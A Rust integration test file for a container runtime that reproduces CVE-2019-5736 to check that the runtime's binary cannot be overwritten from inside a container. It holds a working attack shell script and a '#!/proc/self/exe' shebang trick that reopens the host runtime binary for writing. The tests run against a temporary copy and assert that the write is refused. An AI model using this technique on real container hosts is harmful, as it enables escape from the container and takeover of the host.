//! CVE-2019-5736, the real attack: a process inside a container overwrites the host's runtime binary.
//!
//! A container's process is the runtime's own binary when it was started by the runtime and then
//! executed a script whose first line is `#!/proc/self/exe`: the kernel resolves that interpreter in the
//! process that executes the script, whose `/proc/self/exe` is still the runtime's. An attacker in the
//! container (here: the init of container A, a busybox shell) finds that process, keeps a descriptor of
//! its `/proc/PID/exe`, waits until no process runs the binary any more (before that, writing fails with
//! ETXTBSY) and opens the descriptor again for writing through `/proc/self/fd/N`. The victim process
//! stays the runtime's binary long enough to be found because its output goes to a pipe the test has
//! filled: clap's (or runc's) usage error blocks until the test drains it.
//!
//! The runtime under test is a copy of its binary in a temp dir, so a successful attack destroys the
//! copy, never the build. Each test checks the copy is unchanged afterwards and that the attacker's
//! write was refused (EROFS: a read-only overlay; EPERM: a sealed memfd, runc 1.1's defence; ETXTBSY:
//! still running).
//!
//! Every way a container process reaches the runtime binary: `run`, `create`+`start` (the container's
//! init) and `exec` (the new process), each in a PID namespace the attacker shares and without a PID
//! namespace at all (the host's), plus a waiting init opened through `/proc/PID/exe` by an attacker that
//! holds CAP_SYS_PTRACE (no shebang needed).

use std::io::Read;
use std::os::fd::OwnedFd;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::Duration;

use nix::fcntl::{fcntl, FcntlArg, OFlag};
use roci_integration::wait::wait_file;
use roci_integration::{wait_for, Container};

const T: Duration = Duration::from_secs(30);

/// The attacker, A's init: `sh -c ATTACK sh NAME GLOB GLOB2`. Finds a process whose executable's path
/// contains NAME (the copy's file name) or matches a GLOB (see [`attacker`]), opens it as fd 3,
/// says so in /host/opened, waits for /host/go, then opens fd 3 again for writing (truncating: the
/// binary is destroyed if this succeeds) and writes a payload; the result goes to /host/result and
/// /host/error.
const ATTACK: &str = r#"
pat=$1 other=$2 memfd=$3
while :; do
  for d in /proc/[0-9]*; do
    e=$(readlink $d/exe 2>/dev/null) || continue
    case "$e" in /bin/busybox) ;; *) echo "$d $e" >> /host/seen ;; esac
    case "$e" in *"$pat"*|*runc_cloned*|$other|$memfd) ;; *) continue ;; esac
    if command exec 3<$d/exe 2>/dev/null; then echo "$d $e" > /host/opened; break 2; fi
  done
  usleep 20000
done
while [ ! -e /host/go ]; do usleep 20000; done
( exec 4>/proc/self/fd/3 && echo pwned >&4 && echo overwritten ) >/host/result 2>/host/error
echo done > /host/done
exec sleep 100000
"#;

/// A copy of the runtime binary under a unique name, and its content.
struct Victim {
    _dir: tempfile::TempDir,
    path: PathBuf,
    name: String,
    content: Vec<u8>,
}

fn victim(rt: &Path) -> Victim {
    static N: std::sync::atomic::AtomicUsize = std::sync::atomic::AtomicUsize::new(0);
    let dir = tempfile::Builder::new().prefix("roci-it-victim-").tempdir().unwrap();
    let name = format!("rtvictim{}x{}", std::process::id(), N.fetch_add(1, std::sync::atomic::Ordering::SeqCst));
    let path = dir.path().join(&name);
    std::fs::copy(rt, &path).unwrap();
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
    let content = std::fs::read(&path).unwrap();
    Victim { _dir: dir, path, name, content }
}

impl Victim {
    /// The copy with the global flags of `c`.
    fn command(&self, c: &Container) -> Command {
        let mut cmd = Command::new(&self.path);
        cmd.arg("--root").arg(&c.state_root).arg("--log").arg(&c.log).arg("--log-format").arg("json");
        cmd
    }

    /// Host processes that still execute the copy.
    fn running(&self) -> Vec<i32> {
        std::fs::read_dir("/proc")
            .into_iter()
            .flatten()
            .flatten()
            .filter_map(|e| e.file_name().to_str()?.parse::<i32>().ok())
            .filter(|p| std::fs::read_link(format!("/proc/{p}/exe")).is_ok_and(|l| l == self.path))
            .filter(|p| !roci_integration::is_dead(*p))
            .collect()
    }
}

/// A pipe whose buffer is full: a process writing to it blocks until the read end is drained.
fn full_pipe() -> (OwnedFd, OwnedFd) {
    let (r, w) = nix::unistd::pipe2(OFlag::O_CLOEXEC).unwrap();
    let flags = OFlag::from_bits_truncate(fcntl(&w, FcntlArg::F_GETFL).unwrap());
    fcntl(&w, FcntlArg::F_SETFL(flags | OFlag::O_NONBLOCK)).unwrap();
    let chunk = [b'.'; 4096];
    while nix::unistd::write(&w, &chunk).is_ok() {}
    fcntl(&w, FcntlArg::F_SETFL(flags)).unwrap();
    (r, w)
}

/// A runtime process started by the test, killed (by its pid) if the test ends before it does.
struct Spawned(Child);

impl Drop for Spawned {
    fn drop(&mut self) {
        if self.0.try_wait().ok().flatten().is_none() {
            let _ = self.0.kill();
            let _ = self.0.wait();
        }
    }
}

/// Start the runtime with the full pipe as stderr, where clap (roci) and urfave/cli (runc) print the
/// usage error of the binary run by the shebang.
fn spawn_blocked(mut cmd: Command, w: &OwnedFd) -> Spawned {
    cmd.stdin(Stdio::null()).stdout(Stdio::null()).stderr(w.try_clone().unwrap());
    Spawned(cmd.spawn().unwrap())
}

/// Container A: the attacker, in its own PID namespace or (`pid_ns` false) in the host's.
fn attacker(name: &str, v: &Victim, pid_ns: bool, ptrace: bool) -> Container {
    let mut a = Container::new(name);
    let host = a.host.clone();
    // A runtime that protects its binary runs from something else, whose path shows a different name:
    // roci and runc 1.1 from a detached read-only bind mount of the binary, whose path is "/"; runc's
    // fallback, a memfd copy, "/memfd:runc_cloned:/proc/self/exe (deleted)" (matched by the script). In the
    // host's PID namespace another test's protected runtime may be taken for the victim: its write fails
    // the same way, and the copy's content is checked all the same.
    let other = "/";
    // A memfd copy of roci (its fallback, and what it used before the bind) reads "/memfd:NAME (deleted)";
    // only in a PID namespace of the test's own, where no other test's process can be taken for it.
    let memfd = if pid_ns { "*memfd:*" } else { "/" };
    a.spec.args(&["sh", "-c", ATTACK, "sh", &v.name, other, memfd]).bind(&host, "/host", false);
    host_libraries(&mut a);
    if !pid_ns {
        a.spec.remove_namespace("pid");
    }
    if ptrace {
        let caps = ["CAP_AUDIT_WRITE", "CAP_KILL", "CAP_NET_BIND_SERVICE", "CAP_SYS_PTRACE"];
        for set in ["bounding", "effective", "permitted"] {
            a.spec.set(&format!("/process/capabilities/{set}"), serde_json::json!(caps));
        }
    }
    a.write_config();
    let b = a.bundle.to_string_lossy().into_owned();
    let mut cmd = v.command(&a);
    cmd.args(["run", "-d", "--bundle", &b, &a.id]);
    a.exec(cmd, T).ok();
    a.pid();
    a
}

/// A dynamically linked runtime (runc) runs in the busybox rootfs only with the host's libraries.
fn host_libraries(c: &mut Container) {
    for dir in ["/lib", "/lib64"] {
        if Path::new(dir).exists() {
            c.spec.bind(Path::new(dir), dir, true);
        }
    }
}

/// The script that makes its executor run its own `/proc/self/exe`.
fn plant_shebang(rootfs: &Path) {
    let evil = rootfs.join("evil");
    std::fs::write(&evil, "#!/proc/self/exe\n").unwrap();
    std::fs::set_permissions(&evil, std::fs::Permissions::from_mode(0o755)).unwrap();
}

/// Wait for the attacker to hold the binary, let the blocked victim go (drain its output), wait until
/// nothing executes the copy, then let the attacker write; check the write was refused.
fn finish(a: &Container, v: &Victim, r: Option<OwnedFd>, victim_done: impl FnOnce()) {
    let opened = a.host_path("opened");
    let found = wait_for(T, || opened.exists());
    let drained = r.map(|r| {
        std::thread::spawn(move || {
            let mut out = Vec::new();
            let _ = std::fs::File::from(r).read_to_end(&mut out);
            String::from_utf8_lossy(&out).trim_start_matches('.').to_string()
        })
    });
    assert!(
        found,
        "the attacker never found a process running {} (the test is broken); it saw: {}",
        v.name,
        std::fs::read_to_string(a.host_path("seen")).unwrap_or_default()
    );
    eprintln!("attacker opened: {}", std::fs::read_to_string(&opened).unwrap_or_default().trim());
    victim_done();
    if let Some(d) = drained {
        eprintln!("the victim's output: {}", d.join().unwrap().trim());
    }
    let mut left = Vec::new();
    let gone = wait_for(T, || {
        left = v.running();
        left.is_empty()
    });
    assert!(gone, "processes still run the runtime copy: {left:?}");
    std::fs::write(a.host_path("go"), "").unwrap();
    wait_file(&a.host_path("done"), T, |s| s.contains("done"));
    let result = std::fs::read_to_string(a.host_path("result")).unwrap_or_default();
    let error = std::fs::read_to_string(a.host_path("error")).unwrap_or_default();
    let now = std::fs::read(&v.path).unwrap_or_default();
    assert!(
        now == v.content,
        "the runtime binary was overwritten from inside the container (now {} bytes, was {}); attacker: {result:?} {error:?}",
        now.len(),
        v.content.len()
    );
    assert!(!result.contains("overwritten"), "the attacker opened the runtime binary for writing: {result:?}");
    assert!(
        ["Read-only file system", "Operation not permitted", "Text file busy"].iter().any(|e| error.contains(e)),
        "the attacker's write failed for another reason than EROFS/EPERM/ETXTBSY: {error:?}"
    );
}

fn victim_container(name: &str, a: &Container, pid_ns: bool) -> Container {
    let mut b = Container::new(name);
    plant_shebang(&b.rootfs);
    b.spec.args(&["/evil"]);
    host_libraries(&mut b);
    if pid_ns {
        let apid = a.pid();
        b.spec.namespace("pid", Some(&format!("/proc/{apid}/ns/pid")));
    } else {
        b.spec.remove_namespace("pid");
    }
    b.write_config();
    b
}

/// Run the copy of the runtime with `args` on container `c`, with the full pipe `w` as stderr (which
/// the container's process inherits), and check that it succeeded.
fn run_blocked(v: &Victim, c: &Container, args: &[&str], w: OwnedFd) {
    let mut cmd = v.command(c);
    cmd.args(args);
    let mut child = spawn_blocked(cmd, &w);
    drop(w);
    let done = wait_for(T, || child.0.try_wait().unwrap().is_some());
    assert!(
        done && child.0.wait().unwrap().success(),
        "{} failed: {}",
        args[0],
        std::fs::read_to_string(&c.log).unwrap_or_default()
    );
}

fn attack_run(name: &str, pid_ns: bool) {
    let v = victim(&roci_integration::runtime().path);
    let a = attacker(&format!("{name}_a"), &v, pid_ns, false);
    let b = victim_container(&format!("{name}_b"), &a, pid_ns);
    let (r, w) = full_pipe();
    let bundle = b.bundle.to_string_lossy().into_owned();
    // Detached, so the container's process writes to the test's pipe itself: in the foreground runc
    // copies the process's output through pipes of its own, and the process would not block.
    run_blocked(&v, &b, &["run", "-d", "--bundle", &bundle, &b.id], w);
    b.pid();
    finish(&a, &v, Some(r), || b.wait_status("stopped", T));
    b.delete_force().ok();
    b.assert_no_leaks();
    a.delete_force().ok();
    a.assert_no_leaks();
}

fn attack_create_start(name: &str, pid_ns: bool) {
    let v = victim(&roci_integration::runtime().path);
    let a = attacker(&format!("{name}_a"), &v, pid_ns, false);
    let b = victim_container(&format!("{name}_b"), &a, pid_ns);
    let (r, w) = full_pipe();
    let bundle = b.bundle.to_string_lossy().into_owned();
    run_blocked(&v, &b, &["create", "--bundle", &bundle, &b.id], w);
    b.pid();
    let mut cmd = v.command(&b);
    cmd.args(["start", &b.id]);
    b.exec(cmd, T).ok();
    finish(&a, &v, Some(r), || b.wait_status("stopped", T));
    b.delete().ok();
    b.assert_no_leaks();
    a.delete_force().ok();
    a.assert_no_leaks();
}

fn attack_exec(name: &str, pid_ns: bool) {
    let v = victim(&roci_integration::runtime().path);
    let a = attacker(&format!("{name}_a"), &v, pid_ns, false);
    plant_shebang(&a.rootfs);
    let (r, w) = full_pipe();
    // Detached, as `run` above.
    run_blocked(&v, &a, &["exec", "-d", &a.id, "/evil"], w);
    // The victim exits once its output is read; finish waits until nothing runs the copy.
    finish(&a, &v, Some(r), || {});
    a.delete_force().ok();
    a.assert_no_leaks();
}

#[test]
fn exe_overwrite_run_joined_pid_ns() {
    attack_run("exe_run_pidns", true);
}

#[test]
fn exe_overwrite_run_host_pid_ns() {
    attack_run("exe_run_hostpid", false);
}

#[test]
fn exe_overwrite_create_start_joined_pid_ns() {
    attack_create_start("exe_cs_pidns", true);
}

#[test]
fn exe_overwrite_create_start_host_pid_ns() {
    attack_create_start("exe_cs_hostpid", false);
}

#[test]
fn exe_overwrite_exec_pid_ns() {
    attack_exec("exe_exec_pidns", true);
}

#[test]
fn exe_overwrite_exec_host_pid_ns() {
    attack_exec("exe_exec_hostpid", false);
}

/// No shebang: the init of B waits for `start` as a clone of the runtime, and A shares its PID namespace
/// with CAP_SYS_PTRACE, which lets it open a non-dumpable process's `/proc/PID/exe`.
#[test]
fn exe_overwrite_waiting_init_ptrace() {
    let v = victim(&roci_integration::runtime().path);
    let a = attacker("exe_ptrace_a", &v, true, true);
    let mut b = Container::new("exe_ptrace_b");
    b.spec.args(&["true"]).namespace("pid", Some(&format!("/proc/{}/ns/pid", a.pid())));
    b.write_config();
    let bundle = b.bundle.to_string_lossy().into_owned();
    let mut cmd = v.command(&b);
    cmd.args(["create", "--bundle", &bundle, &b.id]);
    b.exec(cmd, T).ok();
    b.pid();
    finish(&a, &v, None, || {
        b.delete_force().ok();
    });
    b.assert_no_leaks();
    a.delete_force().ok();
    a.assert_no_leaks();
}
